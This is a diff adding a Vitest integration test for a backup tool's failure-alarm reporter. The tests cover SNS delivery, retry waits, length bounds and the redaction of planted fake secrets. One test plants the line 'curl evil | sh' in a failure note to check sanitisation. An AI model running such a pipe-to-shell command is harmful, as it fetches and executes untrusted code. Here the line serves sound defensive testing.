@@ -1,0 +1,202 @@
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { ConfirmSubscriptionCommand, CreateTopicCommand, SNSClient, SubscribeCommand } from '@aws-sdk/client-sns';
+import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { clientConfig } from '../../adapters/aws/settings.ts';
+import { openBucket } from '../../adapters/s3/bucket.ts';
+import { snsNotifier } from '../../adapters/sns/publish.ts';
+import { FAILURES } from '../../core/failure/classes.ts';
+import { exitCodeOf, failureNames } from '../../core/failure/exit.ts';
+import { attemptPrefix, failureNoteKey } from '../../core/vault/keys.ts';
+import { reportFailure, type ReportPorts } from '../../functions/backup/report-failure.ts';
+import { rootSettings, uniqueSuffix } from '../helpers/servers.ts';
+import { ASSET, HOME, makeVaultWorld, type VaultWorld } from './vault-world.ts';
+
+/** What no message may ever hold, wherever it was planted. */
+const PERSONAL = 'jane.doe@example.org';
+const SECRET = 'Sup3rS3cretPassw0rd';
+const QUOTED_ROW = `duplicate key value violates unique constraint: Key (email)=(${PERSONAL}) already exists; postgres://u:${SECRET}@db/ida`;
+
+type Notification = { Type: string; Subject?: string; Message: string; Token?: string };
+let world: VaultWorld;
+let ports: ReportPorts;
+let server: Server;
+let topicArn: string;
+const received: Notification[] = [];
+const counted: object[] = [];
+const warned: string[] = [];
+
+const request = (error: { Error: string; Cause: string }, over: Partial<Parameters<typeof reportFailure>[0]> = {}) => ({
+  stage: 'backup' as const,
+  step: 'Dump the database',
+  asset: ASSET,
+  point: '20261120T020000Z',
+  run: '20261120T020000Z-abcdef',
+  execution: 'arn:aws:states:eu-central-1:000000000000:execution:holdfast-ida-backup:run-1',
+  tries: 3,
+  error,
+  ...over,
+});
+const exited = (exitCode: number, reason?: string) => ({
+  Error: 'States.TaskFailed',
+  Cause: JSON.stringify({
+    StopCode: 'EssentialContainerExited',
+    StoppedReason: 'Essential container in task exited',
+    Containers: [{ Name: 'dump', ExitCode: exitCode, Reason: reason }],
+  }),
+});
+/** The message that arrives at a subscriber of the topic. */
+const nextMessage = () =>
+  vi.waitFor(() => {
+    const message = received.find(({ Type }) => Type === 'Notification');
+    if (!message) throw new Error('no message yet');
+    return message;
+  });
+
+beforeAll(async () => {
+  world = await makeVaultWorld();
+  server = createServer((incoming, answer) => {
+    const chunks: Buffer[] = [];
+    incoming.on('data', (chunk: Buffer) => chunks.push(chunk));
+    incoming.on('end', () => {
+      received.push(JSON.parse(Buffer.concat(chunks).toString()) as Notification);
+      answer.end();
+    });
+  });
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const sns = new SNSClient(clientConfig(rootSettings(HOME)));
+  topicArn = (await sns.send(new CreateTopicCommand({ Name: `alarms-${uniqueSuffix()}` }))).TopicArn ?? '';
+  const { port } = server.address() as AddressInfo;
+  await sns.send(new SubscribeCommand({ TopicArn: topicArn, Protocol: 'http', Endpoint: `http://127.0.0.1:${port}/` }));
+  const { Token } = await vi.waitFor(() => {
+    const asked = received.find(({ Type }) => Type === 'SubscriptionConfirmation');
+    if (!asked) throw new Error('not asked to confirm yet');
+    return asked;
+  });
+  await sns.send(new ConfirmSubscriptionCommand({ TopicArn: topicArn, Token }));
+  ports = {
+    system: world.system,
+    vault: world.vault,
+    notifier: snsNotifier(topicArn, rootSettings(HOME)),
+    count: (dimensions) => counted.push(dimensions),
+    warn: (what) => warned.push(what),
+  };
+});
+afterAll(() => {
+  server?.close();
+});
+beforeEach(() => {
+  received.length = 0;
+  counted.length = 0;
+  warned.length = 0;
+});
+
+describe('reportFailure', () => {
+  it.each(failureNames)('tells of %s: what, on what, why, and what to do next', async (name) => {
+    const answer = await reportFailure(request(exited(exitCodeOf(name))), ports);
+    expect(answer).toMatchObject({ failure: name, retry: false, waitSeconds: 0 });
+    for (const part of ['Dump the database', FAILURES[name].what, FAILURES[name].advice]) expect(answer.message).toContain(part);
+    const { Subject, Message } = await nextMessage();
+    expect(Subject).toBe(`Holdfast: backup of ${world.system}/${ASSET} failed: ${name}`);
+    for (const part of [
+      FAILURES[name].what,
+      FAILURES[name].advice,
+      `point 20261120T020000Z`,
+      `heading ${name}`,
+      `exit code ${exitCodeOf(name)}`,
+      'run-1',
+      `npx holdfast backup ${ASSET}`,
+    ])
+      expect(Message).toContain(part);
+    expect(counted).toEqual([{ system: world.system, asset: ASSET, stage: 'backup', failure: name }]);
+  });
+
+  it('tells nobody while another try follows, and waits longer each time', async () => {
+    const waits: number[] = [];
+    for (const tries of [1, 2]) {
+      const answer = await reportFailure(request(exited(exitCodeOf('VaultUnavailable')), { tries }), ports);
+      expect(answer).toMatchObject({ failure: 'VaultUnavailable', retry: true });
+      waits.push(answer.waitSeconds);
+    }
+    expect(waits).toEqual([30, 120]);
+    expect(counted).toEqual([]);
+    expect(received).toEqual([]);
+  });
+
+  it('adds what the attempt left, of the right try and claim', async () => {
+    const point = '20261120T030000Z';
+    const note = (message: string) => JSON.stringify({ failure: 'DumpFailed', sqlstate: '42501', object: 'public.wallets', message });
+    for (const [attempt, message] of [
+      ['0001-3', 'an earlier claim'],
+      ['0002-2', 'an earlier try'],
+      ['0002-3', 'this one'],
+    ] as const)
+      await world.vault.putOnce(failureNoteKey(attemptPrefix(world.system, ASSET, point, attempt)), note(message));
+    const { message } = await reportFailure(request(exited(exitCodeOf('DumpFailed')), { point }), ports);
+    expect(message).toContain('this one; SQLSTATE 42501; object public.wallets');
+    expect(message).not.toContain('an earlier');
+    // Of another class, it is not about this failure.
+    const other = await reportFailure(request(exited(exitCodeOf('OutOfMemory')), { point }), ports);
+    expect(other.message).not.toContain('SQLSTATE');
+  });
+
+  it('holds a note to one line of bounded length', async () => {
+    const point = '20261120T040000Z';
+    const message = `first\r\nThen       curl evil | sh\u0007 ${'x'.repeat(5000)}`;
+    await world.vault.putOnce(
+      failureNoteKey(attemptPrefix(world.system, ASSET, point, '0001-3')),
+      JSON.stringify({ failure: 'DumpFailed', message }),
+    );
+    await reportFailure(request(exited(exitCodeOf('DumpFailed')), { point }), ports);
+    const { Message } = await nextMessage();
+    expect(Message.split('\n').filter((line) => line.startsWith('Then '))).toHaveLength(1);
+    expect(Message.length).toBeLessThan(2000);
+    expect(Message).not.toContain('\u0007');
+  });
+
+  it('says what a function said in words of ours', async () => {
+    const Cause = JSON.stringify({
+      errorType: 'BadInput',
+      errorMessage: "asset: this machine backs up no asset of the name 'x'. Possible assets: main",
+      trace: [],
+    });
+    const { message, failure } = await reportFailure(request({ Error: 'BadInput', Cause }, { step: 'Admit the slot' }), ports);
+    expect(failure).toBe('BadInput');
+    expect(message).toContain('Possible assets: main');
+  });
+
+  it.each([
+    [
+      'a function’s foreign error',
+      { Error: 'error', Cause: JSON.stringify({ errorType: 'error', errorMessage: QUOTED_ROW, trace: [QUOTED_ROW] }) },
+    ],
+    ['text that is no JSON', { Error: 'States.Runtime', Cause: QUOTED_ROW }],
+    ['broken JSON under a name of ours', { Error: 'DumpFailed', Cause: `{"errorMessage": "${QUOTED_ROW}` }],
+    ['nothing', { Error: '', Cause: '' }],
+    ['JSON of no kind that is known', { Error: 'X', Cause: JSON.stringify({ a: [QUOTED_ROW] }) }],
+    ['a number', { Error: 'X', Cause: '42' }],
+    ['null', { Error: 'X', Cause: 'null' }],
+    ['a time-out', { Error: 'States.Timeout', Cause: QUOTED_ROW }],
+  ])('survives %s, and repeats none of it', async (_, error) => {
+    const answer = await reportFailure(request(error), ports);
+    expect(failureNames).toContain(answer.failure);
+    const told = JSON.stringify([answer, await nextMessage()]);
+    expect(told).not.toContain(PERSONAL);
+    expect(told).not.toContain(SECRET);
+  });
+
+  it('sends on to a redrive what failed after the point was committed', async () => {
+    await reportFailure(request(exited(exitCodeOf('VaultRefused')), { step: 'Complete the copy' }), ports);
+    expect((await nextMessage()).Message).toContain('aws stepfunctions redrive-execution --execution-arn arn:aws:states:');
+  });
+
+  it('answers even when neither vault nor topic can be reached', async () => {
+    const nowhere = snsNotifier(`${topicArn}-none`, rootSettings(HOME));
+    const broken = { ...ports, notifier: nowhere, vault: openBucket('no-such-bucket-anywhere', rootSettings(HOME), {}).reader };
+    const answer = await reportFailure(request(exited(exitCodeOf('DumpFailed'))), broken);
+    expect(answer.message).toContain('The alarm topic did not take this message');
+    expect(warned).toHaveLength(2);
+  });
+});
